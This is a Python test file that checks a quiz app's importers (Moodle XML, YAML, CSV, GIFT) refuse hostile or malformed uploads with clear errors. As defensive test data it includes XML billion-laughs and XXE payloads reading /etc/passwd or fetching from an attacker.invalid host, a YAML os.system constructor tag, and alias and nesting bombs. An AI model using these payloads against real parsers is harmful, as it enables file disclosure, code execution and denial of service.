"""Hostile imports: every bad file ends in a FormatError or a rejection with a clear message,
never in another exception, and nothing in it is ever executed or fetched."""

from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from quizapp.domain.formats import FORMATS, MAX_IMPORT_BYTES, FormatError, ImportResult
from quizapp.domain.questions import snapshot
from tests.domain.test_formats import HEADER, IMPORTABLE, TEXT_IMPORTABLE, make

FUZZ = settings(max_examples=150, deadline=None,
                suppress_health_check=[HealthCheck.too_slow])


def parse(fmt: str, text: str | bytes) -> ImportResult:
    data = text.encode("utf-8") if isinstance(text, str) else text
    return FORMATS[fmt].parse(data, f"upload.{FORMATS[fmt].extension}")


# ---------------------------------------------------------------------------- limits

@pytest.mark.parametrize("fmt", IMPORTABLE)
def test_a_file_over_2_mb_is_refused(fmt: str):
    with pytest.raises(FormatError, match="^File is larger than 2 MB$"):
        parse(fmt, b"a" * (MAX_IMPORT_BYTES + 1))


@pytest.mark.parametrize("fmt", TEXT_IMPORTABLE)
def test_invalid_utf8_is_refused_naming_the_byte_offset(fmt: str):
    with pytest.raises(FormatError, match=r"not UTF-8 text: byte 0xff at offset 6 "):
        parse(fmt, b"hello \xff\xfe world")


@pytest.mark.parametrize("fmt", TEXT_IMPORTABLE)
def test_a_byte_order_mark_is_accepted(fmt: str):
    q = make("true_false")
    data = FORMATS[fmt].export(HEADER, [q])
    with_bom = data if data.startswith(b"\xef\xbb\xbf") else b"\xef\xbb\xbf" + data
    result = FORMATS[fmt].parse(with_bom, "bom")
    assert [snapshot(x) for x in result.questions] == [snapshot(q)]


# ---------------------------------------------------------------------------- XML

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<quiz><question type="truefalse"><name><text>&lol4;</text></name></question></quiz>"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE quiz [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<quiz><question type="truefalse"><questiontext><text>&xxe;</text></questiontext>
</question></quiz>"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE quiz SYSTEM "http://attacker.invalid/evil.dtd">
<quiz></quiz>"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE quiz [<!ENTITY % remote SYSTEM "http://attacker.invalid/x"> %remote;]>
<quiz></quiz>"""


@pytest.mark.parametrize("xml", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY],
                         ids=["billion-laughs", "external-entity", "external-dtd", "parameter"])
def test_xml_with_entities_is_refused(xml: str):
    with pytest.raises(FormatError, match="^XML with entity declarations is refused"):
        parse("moodle-xml", xml)


@pytest.mark.parametrize(("xml", "message"), [
    ("<quiz><question>", "not well-formed XML at line 1"),
    ("", "not well-formed XML"),
    ("<html><body/></html>", "root element is <html>, not <quiz>"),
    ("<quiz>" + "<a>" * 50_000 + "</a>" * 50_000 + "</quiz>", None),
])
def test_malformed_xml_is_a_format_error(xml: str, message: str | None):
    if message is None:
        assert parse("moodle-xml", xml).questions == []
        return
    with pytest.raises(FormatError, match=message):
        parse("moodle-xml", xml)


def test_moodle_questions_with_bad_values_are_rejected():
    xml = """<quiz>
      <question type="numerical"><name><text>n</text></name>
        <answer fraction="100"><text>nan</text></answer></question>
      <question type="multichoice"><name><text>m</text></name>
        <answer fraction="lots"><text>x</text></answer></question>
      <question type="truefalse"><name><text>t</text></name></question>
      <question type="matching"><name><text>BAD KEY!</text></name></question>
    </quiz>"""
    result = parse("moodle-xml", xml)
    assert [(r.key, r.reason) for r in result.rejected] == [
        ("n", "question #1: numerical answer: 'nan' is not a finite number"),
        ("m", "question #2: answer fraction 'lots' is not a number"),
        ("t", "question #3: a truefalse question needs one right answer, true or false"),
        ("bad-key", "question #4: needs a source citation (add a tag source:article#n)"),
    ]


# ---------------------------------------------------------------------------- YAML

def test_yaml_python_tags_are_refused_never_constructed(tmp_path: Path):
    marker = tmp_path / "pwned"
    text = f"""bank: {{slug: demo, title: Demo}}
questions:
  - !!python/object/apply:os.system ["touch {marker}"]
  - key: q
    type: !!python/name:os.system
"""
    with pytest.raises(FormatError, match="could not determine a constructor for the tag"):
        parse("yaml", text)
    assert not marker.exists()


@pytest.mark.parametrize(("text", "message"), [
    ("[" * 20_000, "nested too deeply"),
    ("bank: {slug: a, title: b}\nquestions: [" + "1," * 100_001 + "1]",
     "more than 100,000 YAML nodes; split the bank"),
    ("just a string", "a bank file is a mapping"),
    ("bank: {slug: a, title: b}\nquestions: [\n", "not valid YAML"),
    ("", "a bank file is a mapping"),
])
def test_unreadable_yaml_is_a_format_error(text: str, message: str):
    with pytest.raises(FormatError, match=message):
        parse("yaml", text)


def test_a_list_for_a_type_is_a_rejection_not_a_crash():
    result = parse("yaml", "bank: {slug: a, title: b}\nquestions:\n  - {key: a, type: [x]}\n")
    assert result.questions == []
    assert any("unknown type" in r.reason for r in result.rejected)


def test_yaml_alias_bomb_is_cheap_and_rejected():
    text = "bank: {slug: a, title: b}\nquestions:\n  - &a [x, x, x, x, x, x, x, x, x]\n"
    for level in "bcdefghi":
        prev = chr(ord(level) - 1)
        text += f"  - &{level} [*{prev}, *{prev}, *{prev}, *{prev}, *{prev}, *{prev}]\n"
    with pytest.raises(FormatError, match="anchors and aliases"):  # refused before building
        parse("yaml", text)


def test_yaml_bad_questions_are_rejections_with_lines():
    text = """bank: {slug: demo, title: Demo}
questions:
  - key: ok
    type: true_false
    prompt: Public?
    answer: false
    explanation: No.
    source: [minsk-talks#2]
    tags: [venue]
  - key: bad
    type: true_false
    prompt: Public?
    answer: maybe
    explanation: No.
    source: [minsk-talks#2]
    tags: [venue]
"""
    result = parse("yaml", text)
    assert [q.key for q in result.questions] == ["ok"]
    assert [(r.line, r.key) for r in result.rejected] == [(13, "bad")]
    assert result.rejected[0].reason.startswith("answer: ")


# ---------------------------------------------------------------------------- CSV and GIFT

HEAD = "key,type,prompt,explanation,source,tags,answer\n"


@pytest.mark.parametrize(("row", "reason"), [
    ('q,true_false,P?,E.,minsk-talks#2,venue,"{""answer"": tru"', "answer is not valid JSON"),
    ("q,true_false,P?,E.,minsk-talks#2,venue,{'answer': True}", "answer is not valid JSON"),
    ("q,true_false,P?,E.,minsk-talks#2,venue," + "[" * 100_000, "nested too deeply"),
    ('q,true_false,P?,E.,minsk-talks#2,venue,"' + "[" * 5000 + "]" * 5000 + '"',
     "nested too deeply"),
    ('q,essay,P?,E.,minsk-talks#2,venue,"{}"', "unknown type 'essay'"),
    ('q,true_false,P?,E.,,venue,"{""answer"": true}"', "source: a traced bank cites a paragraph"),
])
def test_a_bad_csv_row_is_a_rejection(row: str, reason: str):
    result = parse("csv", HEAD + row + "\n")
    assert result.questions == []
    [rejection] = result.rejected
    assert rejection.line == 2 and reason in rejection.reason


@pytest.mark.parametrize(("gift", "reason"), [
    ("::q::Where? {=Minsk ~Kyiv ####x.", "unbalanced braces: each { needs a }"),
    ("::q::Where? }=Minsk ~Kyiv ####x.{", "unbalanced braces: each { needs a }"),
    ("::q::Where? {=Minsk {~Kyiv} ####x.}", "unbalanced braces: one {answer block}"),
    ("::q::Where? {=Minsk ~Kyiv ####x.}}", "unbalanced braces: one {answer block}"),
    ("::q::Where? {=Minsk ~Kyiv ####x.} then {T}", "unbalanced braces: one {answer block}"),
    ("::q::Where? {Minsk ####x.}", "answers starting with = (right) or ~ (wrong)"),
    ("::q::Where? {=Minsk ~Kyiv}", "needs an explanation"),
    ("::q::How many? {#lots ####x.}", "'lots' is not a number"),
    ("::q::How many? {#1e999:0 ####x.}", "is not a number"),
    ("::q::Which? {~%abc%Minsk ~Kyiv ####x.}", "exactly one correct option (found 0)"),
    ("::q::Which? {=%-50%Minsk =Kyiv ####x.}", "negative fractions"),
    ("::q::Which? {=%50%Minsk =%40%Kyiv ####x.}", "an answer with fraction 1"),
    ("::q::Where? {=Minsk ~Minsk ####x.}", "two options are the same"),
    ("::q::Where? {=Minsk =Kyiv -> Ukraine ####x.}", "matching pair 'Minsk' has no ->"),
    ("::q::Where? {~Minsk ~Kyiv ####x.}", "exactly one correct option (found 0)"),
    ("::q::Where? {T} ####x.", "needs an explanation"),
    ("::unclosed title {T ####x.}", "not closed with ::"),
    ("::q::Many? {" + "=a" * 101 + " ####x.}", "more than 100 answers in one question"),
    ("// source: minsk-talks#2 tags: Non_sense\n::q::Where? {T ####x.}", "a topic tag is"),
    ("// source: minsk-talks#2 tags: venue difficulty: 9\n::q::Where? {T ####x.}",
     "difficulty: Input should be less than or equal to 3"),
    ("// source: minsk-talks#2 tags: venue\n// typos: true\n::q::Where? {T ####x.}",
     "typos: Extra inputs are not permitted"),
    ("// source: page-one tags: venue\n::q::Where? {T ####x.}", "source must look like"),
])
def test_a_bad_gift_question_is_a_rejection(gift: str, reason: str):
    if not gift.startswith("//"):
        gift = "// source: minsk-talks#2 tags: venue\n" + gift
    result = parse("gift", gift + "\n\n// source: minsk-talks#2 tags: venue\n::ok::Ok? {T ####x.}")
    assert [q.key for q in result.questions] == ["ok"]
    [rejection] = result.rejected
    assert rejection.line == (3 if gift.count("\n") == 2 else 2)
    assert reason in rejection.reason


def test_a_bad_gift_bank_header_is_a_rejection():
    result = parse("gift", '// bank: {"slug": "Not A Slug", "title": "x"}\n\n// bank: {oops\n')
    assert [r.reason for r in result.rejected][0].startswith("bank header: slug: String should")
    assert result.header is None


# ---------------------------------------------------------------------------- fuzzing

GIFTISH = st.text(alphabet=st.sampled_from(list("ab =~#{}:\\%->/\nTF1.\r\t")), max_size=200)


@pytest.mark.parametrize("fmt", IMPORTABLE)
@FUZZ
@given(data=st.one_of(st.binary(max_size=300), st.text(max_size=300).map(str.encode),
                      GIFTISH.map(str.encode)))
def test_any_input_is_a_result_or_a_format_error(fmt: str, data: bytes):
    prefixes = {"yaml": b"bank: {slug: a, title: b}\nquestions:\n  - ", "csv": HEAD.encode(),
                "gift": b"// source: minsk-talks#2 tags: venue\n::q::", "moodle-xml": b"<quiz>",
                "apkg": b"PK\x03\x04"}
    for attempt in (data, prefixes[fmt] + data):
        try:
            result = FORMATS[fmt].parse(attempt, "fuzz")
        except FormatError as e:
            assert str(e)
        else:
            assert isinstance(result, ImportResult)


SPECIAL = st.sampled_from(list("\n\r\t\x85\u2028~=#{}:\\-> %/\"'<>&[]"))
TEXT = st.text(st.characters(blacklist_categories=["Cs", "Cc"]) | SPECIAL,
               min_size=1, max_size=40).map(str.strip).filter(bool)


@pytest.mark.parametrize("fmt", IMPORTABLE)
@FUZZ
@given(prompt=TEXT, explanation=TEXT, texts=st.lists(TEXT, min_size=2, max_size=4,
                                                     unique_by=str.casefold))
def test_any_text_round_trips(fmt: str, prompt: str, explanation: str, texts: list[str]):
    questions = [
        make("single_choice", prompt=prompt, explanation=explanation,
             options=[{"text": t, "correct": i == 0} for i, t in enumerate(texts)]),
        make("short_answer", prompt=prompt, answers=texts, typos=False),
        make("matching", prompt=explanation,
             pairs=[{"left": t, "right": t + "!"} for t in texts]),
        make("numeric", prompt=prompt, unit=texts[0], source_check_ignore=texts[1]),
    ]
    result = FORMATS[fmt].parse(FORMATS[fmt].export(HEADER, questions), "fuzz")
    assert result.rejected == []
    assert [snapshot(q) for q in result.questions] == [snapshot(q) for q in questions]


@pytest.mark.parametrize("fmt", TEXT_IMPORTABLE)
def test_a_nul_character_is_refused_naming_the_line(fmt: str):
    with pytest.raises(FormatError, match=r"has a NUL character on line 2: is it a text file"):
        parse(fmt, "first line\nsecond \x00 line\n")


@pytest.mark.parametrize("escape", ["\\0", "\\x00", "\\u0000"])
def test_a_question_with_a_yaml_escape_for_nul_is_rejected(escape: str):
    text = ("bank:\n  slug: x\n  title: T\nquestions:\n  - key: a\n    type: true_false\n"
            f'    prompt: "before{escape}after"\n    answer: true\n    explanation: E\n'
            "    source: [minsk-talks#2]\n    tags: [venue]\n")
    result = parse("yaml", text)
    assert result.questions == []
    assert [(r.line, r.key, r.reason) for r in result.rejected] == [
        (7, "a", "prompt: text may not contain NUL characters or unpaired surrogates")]
